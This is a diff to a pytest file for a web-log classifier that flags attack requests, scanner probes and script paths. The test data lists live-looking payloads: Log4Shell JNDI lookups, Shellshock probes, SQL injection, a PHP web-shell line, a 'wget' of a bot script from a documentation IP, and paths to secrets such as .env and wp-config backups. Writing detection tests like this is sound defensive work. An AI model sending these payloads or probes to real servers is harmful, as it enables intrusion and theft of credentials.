@@ -26,6 +26,8 @@ ATTACKS = [
     "/?x=${jndi:ldap://198.51.100.9/a}",
     "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D",
     "/index.php?c=eval(base64_decode(%22ZWNobw%22))",
+    "/?cmd=die('===!'.'===');",
+    "/?q=die('z!a'.'x');&w=die('z!a'.'x');",
 ]
 CLEAN = [
     "/",
@@ -38,6 +40,8 @@ CLEAN = [
     "/etc/passwords-faq.html?from=blog",
     "/?s=..",
     "/wp-content/uploads/2016/05/photo...jpg",
+    "/search?q=solar+system+(planets)",
+    "/blog/2016/how-to-die-young/",
 ]
 
 
@@ -77,3 +81,64 @@ def test_author_ids(path: str, author: str | None) -> None:
     assert (found.group(1) if found else None) == author
     extracted = duckdb.sql("SELECT regexp_extract(?, ?, 1)", params=[path, pathfacts.AUTHOR_ID])
     assert (extracted.fetchall()[0][0] or None) == author
+
+
+TARGETS = [
+    "/wp-admin/", "/blog/wp-admin/", "/old/wp-admin/install.php", "/wp-login.php",
+    "/administrator/index.php", "/admin.php", "/admin/", "/phpMyAdmin/scripts/setup.php",
+    "/pma/", "/bitrix/admin/", "/.git/HEAD", "/.env", "/.env.save", "/wp-config.php.bak",
+    "/wp-config.php~", "/backup.zip", "/dump.sql", "/license.php", "/readme.html",
+    "/FCKeditor/editor/filemanager/connectors/test.html", "/c99.php", "/wp-content/up.php",
+    "/wp-content/plugins/revslider/readme.txt", "/wp-content/uploads/shell.php",
+    "/cgi-bin/php5", "/server-status", "/phpinfo.php", "/wp-content/plugins/revslider/",
+    "/components/com_jnews/includes/", "/shop/admin/banner_manager.php", "/joomla",
+    "/admin/Cms_Wysiwyg/directive/index/", "/admin/spaw/spacer.gif",
+]
+NOT_TARGETS = [
+    "/", "/blog/2016/05/admin-tips/", "/administration-fees.html", "/tags/mysql/",
+    "/wp-content/uploads/2016/05/photo.jpg", "/wp-content/plugins/jetpack/css/jetpack.css",
+    "/files/backup-howto.html", "/configure", "/products/shell-oil", "/user/4411",
+    "/readme-first/", "/blog/git-tips/", "/wp-content/plugins/jetpack/modules/x.js",
+    "/blog/components/", "/joomla-tips/",
+]
+
+
+@pytest.mark.parametrize("path", TARGETS)
+def test_scanner_targets_are_flagged_by_both_engines(path: str) -> None:
+    assert pathfacts.target_regex().search(path)
+    assert _duckdb(pathfacts.target_pattern(), path)
+
+
+@pytest.mark.parametrize("path", NOT_TARGETS)
+def test_ordinary_paths_are_not_targets(path: str) -> None:
+    assert not pathfacts.target_regex().search(path)
+    assert not _duckdb(pathfacts.target_pattern(), path)
+
+
+@pytest.mark.parametrize(("ua", "attack"), [
+    ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:4:"\\0\\0\\0a";', True),
+    ("() { :; }; echo Content-type:text/plain; /bin/uname -a", True),
+    ("() { ignored;}; /bin/bash -c 'id'", False),  # no `:;` body: not Shellshock's probe
+    ("Mozilla/5.0' union select 1,2,3-- ", True),
+    ("<?php system($_GET['c']); ?>", True),
+    ("x; wget http://198.51.100.9/bot.sh", True),
+    ("${jndi:ldap://198.51.100.9/a}", True),
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+     "Chrome/120.0.0.0 Safari/537.36", False),
+    ("Wget/1.14 (linux-gnu)", False),
+    ("curl/8.5.0", False),
+    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False),
+    (None, False),
+    ("", False),
+])
+def test_user_agent_payloads(ua: str | None, attack: bool) -> None:
+    assert pathfacts.ua_attack(ua) is attack
+
+
+@pytest.mark.parametrize(("path", "script"), [
+    ("/tmp.php", True), ("/a/b.PHP5", True), ("/default.aspx", True), ("/cgi-bin/x.cgi", True),
+    ("/index.jsp", True), ("/about.html", False), ("/php/", False), ("/x.php/extra", False),
+])
+def test_scripts(path: str, script: bool) -> None:
+    assert bool(pathfacts.SCRIPT_REGEX.search(path)) is script
+    assert _duckdb(pathfacts.SCRIPT_PATH, path) is script
